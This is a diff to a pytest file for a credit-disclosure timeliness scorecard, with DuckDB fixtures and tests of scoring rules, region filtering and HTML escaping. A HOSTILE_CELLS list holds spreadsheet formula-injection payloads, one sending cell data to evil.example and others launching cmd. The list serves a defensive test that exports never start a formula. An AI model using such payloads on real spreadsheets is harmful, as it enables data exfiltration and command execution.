@@ -11,7 +11,6 @@ import duckdb
 import openpyxl
 import pytest
 
-from creditwh import rules
 from creditwh.scorecard import ScorecardError, load_scorecard, write_scorecard
 from creditwh.scorecard.reasons import describe_defect
 from creditwh.scorecard.sections import notes
@@ -21,11 +20,29 @@ ZB_TAX, JN_MARKET, LX_ENV = "11370300MB0000003C", "11370100MB0000001A", "1137010
 # 淄博 leads; 济南市场监管 and 历下生态环境 tie at 76 (rank 2, 2); 历下 was late on most records.
 WAREHOUSE = f"""
 create schema marts;
-create schema reference;
-create table reference.regions (region_code varchar, region_name varchar, city_code varchar);
-insert into reference.regions values
-    ('370000', '山东省', '370000'), ('370100', '济南市', '370100'),
-    ('370102', '历下区', '370100'), ('370300', '淄博市', '370300');
+-- each region with the regions at or under it: 山东省 > 济南市 > 历下区, 山东省 > 淄博市
+create table marts.dim_region_hierarchy (
+    region_code varchar, region_name varchar, region_level varchar, member_region_code varchar,
+    member_region_level varchar);
+insert into marts.dim_region_hierarchy values
+    ('370000', '山东省', 'province', '370000', 'province'), ('370000', '山东省', 'province', '370100', 'city'),
+    ('370000', '山东省', 'province', '370102', 'district'), ('370000', '山东省', 'province', '370300', 'city'),
+    ('370100', '济南市', 'city', '370100', 'city'), ('370100', '济南市', 'city', '370102', 'district'),
+    ('370102', '历下区', 'district', '370102', 'district'), ('370300', '淄博市', 'city', '370300', 'city');
+
+create table marts.dim_department (
+    source_dept_code varchar, source_dept_name varchar, region_code varchar, region_name varchar,
+    is_valid_code boolean);
+insert into marts.dim_department values
+    ('{ZB_TAX}', '淄博市税务局', '370300', '淄博市', true),
+    ('{JN_MARKET}', '济南市市场监督管理局', '370100', '济南市', true),
+    ('{LX_ENV}', '历下区生态环境局', '370102', '历下区', true);
+
+create table marts.rpt_timeliness_evaluation_rules as select
+    7 as deadline_working_days, 0.4::double as timeliness_weight, 0.3::double as compliance_weight,
+    0.3::double as completeness_weight, 0.5::double as rectification_late_share;
+create table marts.rpt_timeliness_evaluation_grades (grade_order integer, grade varchar, min_score double);
+insert into marts.rpt_timeliness_evaluation_grades values (1, 'A', 95), (2, 'B', 85), (3, 'C', 70), (4, 'D', 0);
 
 create table marts.rpt_timeliness_quarterly (
     period_quarter varchar, source_dept_code varchar, source_dept_name varchar, region_code varchar,
@@ -47,19 +64,26 @@ insert into marts.rpt_timeliness_quarterly_region values
     ('2025Q4', '370102', '历下区', 5, 0.4, 1.0, 1.0, 76.0, 2, 'C'),
     ('2025Q3', '370100', '济南市', 4, 1.0, 1.0, 1.0, 100.0, 1, 'A');
 
-create table marts.rpt_timeliness_monthly (
-    period_month date, record_kind varchar, source_dept_code varchar, source_dept_name varchar,
-    records bigint, on_time_records bigint, timeliness_rate double, compliant_records bigint,
-    compliance_rate double, complete_records bigint, completeness_rate double, uscc_errors bigint);
-insert into marts.rpt_timeliness_monthly values
-    ('2025-09-01', 'license', '{JN_MARKET}', '济南市市场监督管理局', 4, 4, 1.0, 4, 1.0, 4, 1.0, 0),
-    ('2025-10-01', 'license', '{JN_MARKET}', '济南市市场监督管理局', 4, 4, 1.0, 4, 1.0, 3, 0.75, 0),
-    ('2025-10-01', 'penalty', '{JN_MARKET}', '济南市市场监督管理局', 2, 0, 0.0, 1, 0.5, 2, 1.0, 0),
-    ('2025-11-01', 'license', '{JN_MARKET}', '济南市市场监督管理局', 4, 3, 0.75, 3, 0.75, 3, 0.75, 0),
-    ('2025-10-01', 'license', '{ZB_TAX}', '淄博市税务局', 5, 5, 1.0, 4, 0.8, 5, 1.0, 1),
-    ('2025-11-01', 'penalty', '{ZB_TAX}', '淄博市税务局', 3, 2, 0.6667, 3, 1.0, 3, 1.0, 0),
-    ('2025-12-01', 'penalty', '{ZB_TAX}', '淄博市税务局', 2, 2, 1.0, 2, 1.0, 2, 1.0, 0),
-    ('2025-11-01', 'penalty', '{LX_ENV}', '历下区生态环境局', 5, 2, 0.4, 5, 1.0, 5, 1.0, 0);
+-- 济南 in October: licences 4/4 on time, penalties 0/2, pooled as 6 records, 4 on time
+create table marts.rpt_timeliness_quarterly_trend as
+select *, on_time_records / nullif(records, 0) as timeliness_rate,
+       compliant_records / nullif(records, 0) as compliance_rate,
+       complete_records / nullif(records, 0) as completeness_rate
+from (values
+    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-07-01', 0, 0, 0, 0, 0),
+    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-08-01', 0, 0, 0, 0, 0),
+    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-09-01', 4, 4, 4, 4, 0),
+    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-10-01', 6, 4, 5, 5, 0),
+    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-11-01', 4, 3, 3, 3, 0),
+    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-12-01', 0, 0, 0, 0, 0),
+    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-10-01', 5, 5, 4, 5, 1),
+    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-11-01', 3, 2, 3, 3, 0),
+    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-12-01', 2, 2, 2, 2, 0),
+    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-10-01', 0, 0, 0, 0, 0),
+    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-11-01', 5, 2, 5, 5, 0),
+    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-12-01', 0, 0, 0, 0, 0)
+) as t (period_quarter, source_dept_code, source_dept_name, region_code, period_month, records, on_time_records,
+        compliant_records, complete_records, uscc_errors);
 
 -- subject_name stands for any personal column the fact table may carry: it must never be exported.
 create table marts.fct_disclosure_timeliness (
@@ -92,14 +116,6 @@ insert into marts.fct_disclosure_timeliness values
      'INVALID:subject_uscc,MISSING:legal_rep_name,BOGUS_CODE', '2025-11-01', '2025Q4');
 """
 
-RULE_VARS = {
-    "disclosure_deadline_working_days": 7,
-    "timeliness_score_weights": {"timeliness": 0.4, "compliance": 0.3, "completeness": 0.3},
-    "evaluation_grade_thresholds": [{"grade": "A", "min_score": 95}, {"grade": "B", "min_score": 85},
-                                    {"grade": "C", "min_score": 70}, {"grade": "D", "min_score": 0}],
-    "rectification_late_share": 0.5,
-}
-
 EXPECTED_PROBLEMS = [
     ("历下区生态环境局", "历环罚〔2025〕3号", "无法计算时限（决定日期缺失或无法识别）；日期无法识别：处罚决定日期"),
     ("历下区生态环境局", "历环罚〔2025〕4号", "报送早于决定日期"),
@@ -112,11 +128,6 @@ EXPECTED_PROBLEMS = [
 
 
 @pytest.fixture
-def rule_vars(monkeypatch):
-    monkeypatch.setattr(rules, "dbt_vars", lambda: RULE_VARS)
-
-
-@pytest.fixture
 def con(tmp_path):
     c = duckdb.connect(str(tmp_path / "credit.duckdb"))
     c.execute(WAREHOUSE)
@@ -125,7 +136,7 @@ def con(tmp_path):
 
 
 @pytest.fixture
-def scorecard(con, rule_vars):
+def scorecard(con):
     return load_scorecard(con, "2025Q4")
 
 
@@ -223,7 +234,7 @@ def test_xlsx_formats_what_evaluators_read(scorecard, tmp_path):
         assert series.marker.symbol == "circle" and not series.smooth
 
 
-def test_region_filter_keeps_its_departments_and_ranks_within(con, rule_vars, tmp_path):
+def test_region_filter_keeps_its_departments_and_ranks_within(con, tmp_path):
     scorecard = load_scorecard(con, "2025Q4", region="370100")
     assert scorecard.region_name == "济南市"
     assert scorecard.departments[["source_dept_code", "rank", "rank_in_selection"]].values.tolist() == [
@@ -282,19 +293,43 @@ def test_html_is_a_standalone_page_with_svg_trend(scorecard, tmp_path):
     assert "@media print" in content and "张三丰" not in content
 
 
-def test_html_escapes_department_names(con, rule_vars, tmp_path):
+def test_html_escapes_department_names(con, tmp_path):
     con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = '<b>局</b>' where rank = 1")
     content = write_scorecard(load_scorecard(con, "2025Q4"), tmp_path / "x.html").read_text(encoding="utf-8")
     assert "<b>局</b>" not in content and "&lt;b&gt;局&lt;/b&gt;" in content
 
 
-def test_without_configured_rules_nothing_is_invented(con, monkeypatch):
-    monkeypatch.setattr(rules, "dbt_vars", lambda: {})
+def test_without_configured_rules_nothing_is_invented(con):
+    con.execute("delete from marts.rpt_timeliness_evaluation_rules; delete from marts.rpt_timeliness_evaluation_grades")
     scorecard = load_scorecard(con, "2025Q4")
     late = scorecard.problems.set_index("doc_no").at["济市监罚〔2025〕12号", "problem"]
     assert late == "逾期报送（8个工作日）"
     text = dict(notes(scorecard))
     assert all("未配置" in text[label] for label in ["得分", "等级", "报送时限", "需整改"])
+
+
+def test_the_rules_stated_are_those_the_marts_were_built_with(con):
+    con.execute("update marts.rpt_timeliness_evaluation_rules set deadline_working_days = 5, timeliness_weight = 0.5, "
+                "compliance_weight = 0.25, completeness_weight = 0.25, rectification_late_share = 0.4")
+    con.execute("delete from marts.rpt_timeliness_evaluation_grades where grade = 'B'")
+    scorecard = load_scorecard(con, "2025Q4")
+    text = dict(notes(scorecard))
+    assert text["得分"] == "得分 = 100 ×（0.5 × 及时率 + 0.25 × 合规率 + 0.25 × 完整率）"
+    assert text["等级"] == "A：得分 ≥ 95；C：得分 ≥ 70；D：其余"
+    assert text["报送时限"] == "自行政决定作出之日起5个工作日内报送"
+    assert text["需整改"].startswith("逾期报送的记录占比超过 40% 的单位")
+    late = scorecard.problems.set_index("doc_no").at["济市监罚〔2025〕12号", "problem"]
+    assert late == "逾期报送（8个工作日，限5个工作日）"
+
+
+def test_a_region_is_what_the_hierarchy_puts_under_it(con):
+    """Not a code prefix: a region the hierarchy does not place under 济南市 is not in its scorecard."""
+    con.execute("delete from marts.dim_region_hierarchy where region_code = '370100' and member_region_code = '370102'")
+    jinan = load_scorecard(con, "2025Q4", region="370100")
+    assert jinan.region_level == "city"
+    assert jinan.departments["source_dept_code"].tolist() == [JN_MARKET]
+    assert jinan.regions["region_code"].tolist() == ["370100"]
+    assert set(jinan.problems["source_dept_code"]) == set(jinan.monthly_trend["source_dept_code"]) == {JN_MARKET}
 
 
 @pytest.mark.parametrize(
@@ -307,14 +342,14 @@ def test_without_configured_rules_nothing_is_invented(con, monkeypatch):
         ("2025Q3", "370300", ["2025Q3", "370300 淄博市", "there: 2025Q4"]),
     ],
 )
-def test_helpful_errors(con, rule_vars, quarter, region, expected):
+def test_helpful_errors(con, quarter, region, expected):
     with pytest.raises(ScorecardError) as raised:
         load_scorecard(con, quarter, region)
     for part in expected:
         assert part in str(raised.value)
 
 
-def test_missing_marts_is_a_scorecard_error(tmp_path, rule_vars):
+def test_missing_marts_is_a_scorecard_error(tmp_path):
     with duckdb.connect() as empty, pytest.raises(ScorecardError, match="creditwh run"):
         load_scorecard(empty, "2025Q4")
 
@@ -347,7 +382,7 @@ HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "=cmd|' /C
                  "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
-def test_csv_and_xlsx_cells_never_start_a_formula(con, rule_vars, tmp_path):
+def test_csv_and_xlsx_cells_never_start_a_formula(con, tmp_path):
     """OWASP CSV injection: department names and document numbers come from departments' extracts."""
     con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = ? where source_dept_code = ?",
                 [HOSTILE_CELLS[0], ZB_TAX])
